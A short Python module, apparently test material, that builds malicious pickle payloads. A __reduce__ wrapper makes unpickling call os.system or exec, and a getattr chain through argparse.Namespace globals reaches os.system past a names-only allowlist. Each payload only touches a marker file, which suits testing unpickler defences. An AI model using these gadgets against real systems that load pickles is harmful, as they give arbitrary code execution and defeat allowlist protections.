"""What runs code where a file is simply unpickled."""
import argparse
import os


class Call:
    """Pickled as a call; what it returns can be called in turn."""

    def __init__(self, function, *args):
        self.reduced = function, args

    def __call__(self):
        raise AssertionError('only there because pickle asks for a callable')

    def __reduce__(self):
        return self.reduced


def through_allowed_names_only(command):
    """os.system, reached by getattr from a class that is usual in files."""
    init = Call(getattr, argparse.Namespace, '__init__')
    names = Call(getattr, init, '__globals__')
    module = Call(Call(getattr, names, 'get'), '_os')
    return Call(Call(getattr, module, 'system'), command)


PAYLOADS = {
    'system': lambda marker: Call(os.system, f'touch {marker}'),
    'exec': lambda marker: Call(exec, f'open({str(marker)!r}, "w").close()'),
    'getattr': lambda marker: through_allowed_names_only(f'touch {marker}'),
}
